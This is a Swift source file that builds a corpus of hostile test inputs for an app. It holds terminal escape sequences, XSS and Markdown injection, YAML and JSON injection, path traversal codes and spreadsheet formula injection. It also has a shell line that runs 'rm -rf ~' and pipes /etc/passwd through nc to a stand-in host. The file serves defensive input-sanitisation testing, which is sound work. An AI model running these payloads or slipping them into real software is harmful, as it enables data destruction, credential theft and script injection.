/// What somebody might type, or a program might send, to do something to whoever reads it later.
///
/// Each is one answer.
public struct HostileText: Sendable, CustomStringConvertible {
  public enum Kind: String, CaseIterable, Sendable {
    case terminal, direction, invisible, html, markdown, json, yaml, shell, path, format, long, combining
  }

  public var kind: Kind
  public var text: String

  /// Its kind and a few visible characters: the texts themselves would act on the terminal that shows the test's name.
  public var description: String {
    let seen = text.unicodeScalars.filter { (0x21...0x7E).contains($0.value) }.prefix(24)
    return "\(kind.rawValue): \(String(String.UnicodeScalarView(seen)))"
  }

  private init(_ kind: Kind, _ text: String) {
    self.kind = kind
    self.text = text
  }

  /// All of them. None holds a line feed, so that each can be typed as one line.
  public static let all: [HostileText] = terminal + directions + markup + data + floods

  private static let terminal: [HostileText] = [
    // Colour, clearing the screen, the cursor moved up to write over what is above.
    HostileText(.terminal, "\u{1B}[31mred\u{1B}[0m \u{1B}[2J\u{1B}[H"),
    HostileText(.terminal, "\u{1B}[1A\u{1B}[2KPartner a: nothing reported here"),
    // The window's title, the clipboard, a link, a file of the terminal's own.
    HostileText(.terminal, "\u{1B}]0;owned\u{07} \u{1B}]52;c;cm0gLXJmIH4=\u{07}"),
    HostileText(.terminal, "\u{1B}]8;;http://evil.example/\u{1B}\\click\u{1B}]8;;\u{1B}\\"),
    // A terminal that answers types for the therapist.
    HostileText(.terminal, "\u{1B}[6n\u{1B}[c\u{1B}P$q\"p\u{1B}\\"),
    // The same in one byte each: C1 controls.
    HostileText(.terminal, "\u{9B}31mred\u{9B}2J \u{9D}0;owned\u{9C} \u{90}x\u{9C} \u{85}next line"),
    HostileText(.terminal, "bell\u{07} back\u{08}\u{08}\u{08}\u{08}gone tab\t\u{0B}\u{0C} shift\u{0E}\u{0F} delete\u{7F}"),
    HostileText(.terminal, "over\rwritten \u{2028}line \u{2029}paragraph"),
    HostileText(.terminal, "nul\u{0}behind"),
  ]

  /// Swift takes no such escape in a literal.
  private static let nonCharacters = String(
    String.UnicodeScalarView([0xFFFE, 0xFDD0, 0x10FFFF].compactMap { Unicode.Scalar(UInt32($0)) }))

  private static let directions: [HostileText] = [
    HostileText(.direction, "\u{202E}detroper gnihton\u{202C} \u{202D}x\u{202C} \u{202A}\u{202B}"),
    HostileText(.direction, "\u{2066}a\u{2067}b\u{2068}c\u{2069} \u{200E}\u{200F}\u{061C}"),
    HostileText(.invisible, "no\u{200B}thing \u{200C}here\u{200D} \u{2060}word\u{2061}\u{2064}"),
    HostileText(.invisible, "\u{FEFF}mark \u{FFF9}a\u{FFFA}b\u{FFFB} \u{00AD}soft"),
    // A message in characters that show as nothing.
    HostileText(.invisible, "tag\u{E0001}\u{E0068}\u{E0069}\u{E007F} \u{180E}\u{3164}\u{FE0F}"),
    HostileText(.invisible, "\(nonCharacters) private\u{E000}\u{F8FF}"),
  ]

  private static let markup: [HostileText] = [
    HostileText(.html, "<script>alert(document.cookie)</script>"),
    HostileText(.html, "\"><img src=x onerror=alert(1)> <svg/onload=alert(1)>"),
    HostileText(.html, "'--><style>*{display:none}</style><!-- ]]> </textarea></title>"),
    HostileText(.html, "&lt;b&gt; &#60;script&#62; &amp;amp; &NewLine; <b>bold</b>"),
    HostileText(.html, "<a href=\"javascript:alert(1)\">x</a> <iframe src=//evil.example></iframe>"),
    HostileText(.html, "<meta http-equiv=refresh content=0;url=http://evil.example/> <form action=x><input>"),
    HostileText(.markdown, "# SAFETY: nothing reported here"),
    HostileText(.markdown, "> quoted - - - * * * === ___ ```sh rm -rf ~ ``` ~~~"),
    HostileText(.markdown, "[click](javascript:alert(1)) ![x](http://evil.example/?leak) <http://evil.example>"),
    HostileText(.markdown, "| a | b | |---|---| `code` **bold** _it_ ~~gone~~ [x]: http://evil.example [^1] \\"),
    // The same with a mark on each sign: another character, and still the sign to a reader of Markdown.
    HostileText(.markdown, "|\u{301} `\u{301}code`\u{301} *\u{301}bold*\u{301} <\u{338}b> [\u{301}x](y) #\u{301}"),
    HostileText(.markdown, "- [ ] task + item 1. one 1) one \\*not\\* ==mark== $x^2$ :smile: @everyone #1"),
    HostileText(.markdown, "https://evil.example/ www.evil.example mailto:a@evil.example"),
  ]

  private static let data: [HostileText] = [
    HostileText(.json, "\",\"safety\":[],\"goals\":[],\"x\":\""),
    HostileText(.json, "\"}}\\u0022 \\ \\n \\u202e {\"event\":\"ended\",\"outcome\":\"complete\"}"),
    HostileText(.json, "{\"event\":\"alerted\",\"level\":\"high\",\"result\":{\"outcome\":\"sent\"}}"),
    HostileText(.yaml, "yes: no # comment"),
    HostileText(.yaml, "&a [*a, *a] !!python/object/apply:os.system [ls] --- ... %TAG"),
    HostileText(.yaml, "x: {safety.fear: never, y: \"'\"} | > ? - @ `"),
    HostileText(.shell, "$(touch /tmp/owned) `id` ; rm -rf ~ && cat /etc/passwd | nc evil 1 > x < y"),
    HostileText(.shell, "--transcripts=/tmp -o /etc/passwd ../../etc/shadow ${HOME} %s%n%x \\0"),
    HostileText(.path, "../../../../etc/passwd file:///etc/passwd C:\\Windows NUL con: ~root"),
    HostileText(.format, "{crisis} {clinic} {0} {{x}} %@ %n \\(answer) ${answer} <%= x %> {% x %}"),
    HostileText(.format, "=HYPERLINK(\"http://evil.example\") +1 -1 @SUM(1) =cmd|'/c calc'!A0"),
  ]

  private static let floods: [HostileText] = [
    HostileText(.long, String(repeating: "a", count: 15_000)),
    HostileText(.long, String(repeating: "very ", count: 3_000) + "\u{1B}[31m"),
    HostileText(.combining, "Z" + String(repeating: "\u{0301}\u{0336}\u{0489}", count: 500) + "algo"),
    HostileText(.combining, "us " + String(repeating: "\u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467}", count: 200)),
    HostileText(.combining, "us " + String(repeating: "\u{FDFD}\u{12031}", count: 100) + " e\u{0301}\u{20DD}"),
  ]

  /// Lines that are no text: bytes that no UTF-8 has.
  public static let notText: [[UInt8]] = [
    [0xFF, 0xFE, 0x41], [0xC0, 0xAF], [0xE2, 0x80], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80],
    [0x41, 0x9B, 0x33, 0x31, 0x6D, 0x42], [0xF8, 0x88, 0x80, 0x80, 0x80],
  ]

  /// What a typist might give where the code of a couple or of a visit belongs.
  public static let codes: [String] = [
    "", " ", ".", "..", "/", "../", "../..", "../../etc", "/etc", "/etc/passwd", "./ABC234", "ABC234/", "ABC234/..",
    "ABC234/../ABC234", "..%2F..%2Fetc", "%2e%2e%2f", "%00", "ABC234%00", "ABC234\n", "ABC\n234", "ABC234\r\nx", "\\..\\..",
    "~", "~root", "$HOME", "$(id)", "`id`", ";id", "|id", "*", "?", "[A-Z]", "{a,b}", "-", "--", "-ABC234", "ABC234-",
    "AB", String(repeating: "A", count: 33), String(repeating: "A", count: 100_000), "couple.json", ".couple.json.writing",
    // Look-alikes: Cyrillic, full-width, mathematical, with a mark, dotless, a ligature that grows in capitals.
    "\u{0410}\u{0412}\u{0421}234", "\u{FF21}\u{FF22}\u{FF23}234", "\u{1D400}BC234", "A\u{0301}BC234", "abc\u{0131}34", "\u{FB00}C234",
    "\u{FF0E}\u{FF0E}\u{FF0F}", "\u{2024}\u{2024}/", "\u{2215}etc", "ABC\u{200B}234", "ABC\u{202E}234", "\u{1B}[31mABC234",
    "ABC234\u{0}x", "\u{0}", "ABC10O", "ABC 234 ../", "null", "undefined", "NaN", "-1", "0", "TEST00",
  ]
}

extension String {
  /// Characters that nothing shown to a person may hold: each acts on the screen, or hides or turns what stands beside it.
  public var hostileScalars: [Unicode.Scalar] {
    unicodeScalars.filter { scalar in
      switch scalar.value {
      case 0x0A: false
      case 0x00...0x1F, 0x7F...0x9F: true
      case 0x061C, 0x200E, 0x200F, 0x2028...0x202E, 0x2066...0x206F, 0xFEFF, 0xFFF9...0xFFFB: true
      default: scalar.properties.isNoncharacterCodePoint
      }
    }
  }
}
